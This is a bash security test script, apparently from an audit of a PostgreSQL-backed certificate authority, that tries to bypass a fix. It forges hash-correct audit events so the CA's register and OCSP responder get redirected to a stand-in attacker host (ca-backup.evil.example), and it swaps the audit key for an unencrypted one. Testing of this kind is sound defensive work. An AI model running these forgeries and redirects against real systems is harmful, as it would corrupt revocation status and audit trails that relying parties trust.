#!/usr/bin/env bash
# F5 fix bypass (PostgreSQL application role): the planted moved_to mark is "explained" by a register.migrated_out
# event the role appends itself with a correct hash. Writers and tirkeu-ocsp then name the attacker's address as
# the register to use; audit verify rc=0. Also: audit key swap with a forged audit.key_set, unencrypted key file.
if [ -z "${TIRKEU_TEST_PG:-}" ]; then exec /work/wt-lead/tests/pg/pg_server.sh bash "$(readlink -f "$0")" "$@"; fi
NAME=pg-forged-move; . "$(dirname "$0")/common.sh"
FORGE=$(dirname "$(readlink -f "$0")")/forge_event.py
P="$PGHOST:$PGPORT"
psql -d postgres -q -c "CREATE DATABASE r1 OWNER tirkeu_owner" || exit 1
DB="postgresql://tirkeu_owner@$P/r1" staff >/dev/null || { cat $W/err; exit 1; }
DB="postgresql://tirkeu_owner@$P/r1" cli db init --app-role tirkeu_app; show $?
DB="postgresql://tirkeu_app@$P/r1"; APPURL=$DB
as admin ca add --code NCA --name "Attack Test CA" --kind national >/dev/null || { show $?; exit 1; }
as admin ca init --code NCA --key-algorithm p256 --key-out "$W/nca.p8" --passphrase-file "$W/ca.pass" --cert-out "$W/nca.pem" >/dev/null || { show $?; exit 1; }
pointers NCA >/dev/null
submit_approve "" Kasymova >/dev/null; mkcsr $W/a.csr; issue $APP $W/a.csr $W/a.pem; A=$SERIAL
ocsp_signer NCA >/dev/null || { cat $W/err; exit 1; }
echo "audit-Passphrase-2026" >$W/audit.pass; chmod 600 $W/audit.pass
as admin audit key init --key-out $W/audit.p8 --key-passphrase-file $W/audit.pass --public-out $W/audit-pub.pem; show $?
mkdir -p $W/anchors; as aud audit checkpoint --out $W/anchors --key-passphrase-file $W/audit.pass; show $?
REG=$APPURL CACHE_SECONDS=0 ocsp_start NCA || exit 1
say "OCSP before: $(ocspq $W/nca.pem $W/a.pem)"
EVIL='postgresql://tirkeu_app@ca-backup.evil.example/register'
say "A. application role: mark moved_to + forged register.migrated_out event (hash recomputed)"
psql "$APPURL" -X -q -t -A -c "INSERT INTO meta(key,value) VALUES ('moved_to','$EVIL')" 2>&1 | sed 's/^/   /'
python3 $FORGE "$APPURL" admin register.migrated_out "$EVIL" "{\"from\":\"postgresql://tirkeu_owner@$P/r1\",\"to\":\"$EVIL\"}" | sed 's/^/   /'
as admin operator lockout --max-failures 6; say "administrator's write: rc=$? $(head -c 500 $W/err)"
as off1 certificate revoke --ca NCA --serial $A --reason key_compromise --basis holder_application --ca-passphrase-file $W/ca.pass; say "revocation: rc=$? $(head -c 200 $W/err)"
sleep 1.5
say "OCSP after: $(ocspq $W/nca.pem $W/a.pem)"
say "responder log: $(tail -3 $W/ocsp.log | tr '\n' ' ' | cut -c1-500)"
sleep 62
say "OCSP 60 s later (the responder's once-a-minute reload): $(ocspq $W/nca.pem $W/a.pem)"
say "responder log: $(tail -2 $W/ocsp.log | tr '\n' ' ' | cut -c1-500)"
as aud audit verify; say "audit verify: rc=$? $(head -c 500 $W/out $W/err | tr '\n' ' ')"
as aud audit verify --anchors $W/anchors --anchor-key $W/audit-pub.pem; say "audit verify --anchors --anchor-key: rc=$? $(head -c 400 $W/out $W/err | tr '\n' ' ')"
mkdir -p $W/anchors; as aud audit checkpoint --out $W/anchors --key-passphrase-file $W/audit.pass; say "the job's checkpoint now pins the forged event: rc=$? $(head -c 200 $W/out $W/err | tr '\n' ' ')"
ocsp_stop
say "responder restarted: $(REG=$APPURL ocsp_start NCA 2>&1 | cut -c1-400)"
say "B. unencrypted audit key file named by meta + forged audit.key_set"
psql "$APPURL" -X -q -t -A -c "DELETE FROM meta WHERE key='moved_to'" >/dev/null
openssl genpkey -algorithm EC -pkeyopt ec_paramgen_curve:P-256 -out $W/evil-plain.p8 2>/dev/null
SPKI=$(openssl pkey -in $W/evil-plain.p8 -pubout -outform DER | base64 -w0)
FP=$(openssl pkey -in $W/evil-plain.p8 -pubout -outform DER | sha256sum | cut -c1-64)
psql "$APPURL" -X -q -t -A -c "UPDATE meta SET value='$SPKI' WHERE key='audit_key_spki'; UPDATE meta SET value='file:$W/evil-plain.p8' WHERE key='audit_key_uri'" 2>&1 | sed 's/^/   /'
python3 $FORGE "$APPURL" admin audit.key_set "$FP" "{\"uri\":\"file:$W/evil-plain.p8\",\"key_sha256\":\"$FP\",\"public_key\":\"$SPKI\",\"replaces\":\"\"}" | sed 's/^/   /'
mkdir -p $W/anchors3; as aud audit checkpoint --out $W/anchors3 --key-passphrase-file $W/audit.pass; say "checkpoint with the unencrypted key: rc=$? $(head -c 300 $W/out $W/err | tr '\n' ' ')"
as aud audit verify --anchors $W/anchors; say "audit verify --anchors (honest anchors, no --anchor-key): rc=$? $(head -c 400 $W/out $W/err | tr '\n' ' ')"
as aud audit verify; say "audit verify: rc=$? $(head -c 300 $W/out $W/err | tr '\n' ' ')"
exit 0
